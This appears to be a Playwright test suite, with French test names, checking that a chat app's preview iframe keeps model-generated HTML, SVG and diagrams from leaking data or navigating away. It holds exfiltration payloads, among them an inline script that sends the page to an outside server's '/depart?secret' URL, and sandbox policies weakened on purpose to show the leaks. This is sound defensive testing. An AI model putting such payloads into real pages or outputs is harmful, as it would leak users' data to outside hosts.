import type { LocalAiDouble } from '@atelier/engine/testing/localai-double/localai-double'
import { expect, type FrameLocator, type Page } from '@playwright/test'
import { test } from '#fixtures.ts'
import { lastReply, send, sendButton } from '#pages/chat.ts'
import { replyWith } from '#setup/engine-replies.ts'
import {
  departuresOf,
  diagramsOf,
  freshWindowsOf,
  pictureOf,
  readsOf,
  requestsOf,
} from './attacks.ts'
import { type ListeningServer, startListeningServer } from './listening-server.ts'

let outside: ListeningServer
test.beforeAll(async () => {
  outside = await startListeningServer()
})
test.beforeEach(() => outside.clear())
test.afterAll(() => outside.close())

const documentOf = (content: string, title = 'Piège') =>
  `<!doctype html><html><head><title>${title}</title></head><body>${content}<p>Fin</p></body></html>`
const fenced = (code: string, language = 'html') => `\`\`\`${language}\n${code}\n\`\`\``

const frameOf = (page: Page) => page.locator('iframe[title$="Piège"]')
const shownPage = (page: Page): FrameLocator => frameOf(page).contentFrame()

/** Has the model write it, and opens it beside the chat. */
async function openPreview(
  { page, localai }: { readonly page: Page; readonly localai: LocalAiDouble },
  content: string,
) {
  localai.control.chatFault = replyWith(fenced(documentOf(content)))
  await send(page, 'Une page')
  await lastReply(page).getByRole('button', { name: 'Aperçu de « Piège »' }).click()
  await expect(frameOf(page)).toBeVisible()
}
const closePreview = async (page: Page) => {
  await page.getByRole('button', { name: 'Fermer l’aperçu' }).click()
  await expect(frameOf(page)).toHaveCount(0)
  await expect(sendButton(page)).toBeVisible()
}
/**
 * A frame that has no answer to any of it, to show that the attacks would work. It comes from a real server: the browser lets nothing that a
 * journey made up itself call the machine.
 */
const weaken = (page: Page, policy: string) =>
  page.route('**/cadre/apercu', (route) =>
    route.continue({ url: `${outside.url}/?policy=${encodeURIComponent(policy)}` }),
  )

test('un aperçu ne demande rien à personne, et ne lit rien du navigateur', {
  tag: '@firefox',
}, async ({ page, openChat, localai, faults }) => {
  faults.expect(/./)
  await openChat()
  // Some are refused at once, others by a promise that fails.
  const reads = `<ul id="lus"></ul><script>
    (async () => {
      for (const one of ${JSON.stringify(readsOf)}) {
        let found = 'refusé'
        try { const value = await (0, eval)(one); if (value) found = String(value) } catch {}
        document.querySelector('#lus').append(one + ' : ' + found, document.createElement('br'))
      }
    })()
  </script>`
  await openPreview({ page, localai }, reads + requestsOf(outside))
  await expect(shownPage(page).getByText('Fin')).toBeVisible()
  const lines = async () =>
    (await shownPage(page).locator('#lus').innerText()).split('\n').filter(Boolean)
  await expect.poll(lines).toEqual(readsOf.map((one) => `${one} : refusé`))
  await expectNothing(page)
})

test('un aperçu ne part nulle part, et n’emmène pas la page', { tag: '@firefox' }, async ({
  page,
  openChat,
  localai,
  faults,
}) => {
  faults.expect(/./)
  const chat = await openChat()
  for (const [name, content] of Object.entries(departuresOf(outside)))
    await test.step(name, async () => {
      await openPreview({ page, localai }, content)
      await expectNothing(page)
      expect(new URL(page.url()).pathname).toBe(`/chat/${chat.id}`)
      expect(page.context().pages()).toHaveLength(1)
      await closePreview(page)
    })
})

test('un aperçu ne retrouve pas les connexions que son cadre lui a prises', {
  tag: '@firefox',
}, async ({ page, openChat, localai, faults }) => {
  faults.expect(/./)
  await openChat()
  for (const [name, content] of Object.entries(freshWindowsOf(outside)))
    await test.step(name, async () => {
      await openPreview({ page, localai }, content)
      await expectNothing(page)
      await closePreview(page)
    })
})

test('sans ces protections, tout cela sortirait', async ({ page, openChat, localai, faults }) => {
  faults.expect(/./)
  await weaken(page, 'sandbox allow-scripts')
  await openChat()
  await openPreview({ page, localai }, requestsOf(outside))
  for (const name of ['/fetch', '/image', '/balise', '/socket', '/import', '/cadre', 'WebRTC'])
    await expect.poll(() => outside.arrived().join('\n')).toContain(name)
  await closePreview(page)
  await page.unroute('**/cadre/apercu')

  // The policy alone leaves the connections that the frame's script takes away.
  await weaken(page, "sandbox allow-scripts; default-src 'none'; script-src 'unsafe-inline'")
  for (const [name, content] of Object.entries(freshWindowsOf(outside)))
    await test.step(name, async () => {
      outside.clear()
      await openPreview({ page, localai }, content)
      await expect.poll(() => outside.arrived()).toContain('paquet WebRTC')
      await closePreview(page)
    })
})

test('sans la règle des cadres de la page, un aperçu partirait', async ({
  page,
  openChat,
  localai,
  faults,
}) => {
  faults.expect(/./)
  await page.route('**/chat/*', async (route) => {
    if (route.request().resourceType() !== 'document') return route.fallback()
    const response = await route.fetch()
    const headers = response.headers()
    headers['content-security-policy'] = (headers['content-security-policy'] ?? '').replace(
      "frame-src 'self'",
      'frame-src *',
    )
    return route.fulfill({ response, headers })
  })
  await openChat()
  await openPreview({ page, localai }, `<script>location = '${outside.url}/depart?secret'</script>`)
  await expect.poll(() => outside.arrived()).toContain('GET /depart?secret')
})

test('une image piégée ne montre que son dessin', { tag: '@firefox' }, async ({
  page,
  openChat,
  localai,
  faults,
}) => {
  faults.expect(/./)
  await openChat()
  localai.control.chatFault = replyWith(fenced(pictureOf(outside), 'svg'))
  await send(page, 'Une image')
  const picture = lastReply(page).getByRole('img', { name: 'Un carré' })
  await expect(picture).toBeVisible()
  await expect
    .poll(() => picture.evaluate((img) => 'naturalWidth' in img && img.naturalWidth))
    .toBeTruthy()
  await expectNothing(page)
})

test('un schéma piégé ne montre que son dessin, et ses réglages ne changent rien', {
  tag: '@firefox',
}, async ({ page, openChat, localai, faults }) => {
  faults.expect(/./)
  const chat = await openChat()
  const diagrams = [...diagramsOf(outside), 'flowchart LR\n  A[Après] --> B']
  localai.control.chatFault = replyWith(
    diagrams.map((diagram) => fenced(diagram, 'mermaid')).join('\n\nPuis\u00a0:\n\n'),
  )
  await send(page, 'Un schéma')
  // Rendered one after the other: once the last is there, the others have done what they can.
  const pictures = lastReply(page).getByRole('img', { name: 'Organigramme' })
  await expect(pictures).toHaveCount(2)
  await expectNothing(page)
  expect(new URL(page.url()).pathname).toBe(`/chat/${chat.id}`)
  expect(await pictures.first().getAttribute('src')).not.toMatch(/foreignObject|script%3E/)
})

/** What would leave has left: the page, which may connect, does so after it, and that has arrived. */
async function expectNothing(page: Page) {
  const before = outside.witnesses()
  await page.evaluate(
    (port) =>
      new Promise<void>((resolve) => {
        const connection = new RTCPeerConnection({
          iceServers: [{ urls: `stun:127.0.0.1:${port}` }],
        })
        connection.createDataChannel('x')
        void connection
          .createOffer()
          .then((offer) => connection.setLocalDescription(offer))
          .then(resolve)
      }),
    outside.witnessPort,
  )
  await expect.poll(() => outside.witnesses()).toBeGreaterThan(before)
  expect(outside.arrived()).toEqual([])
}
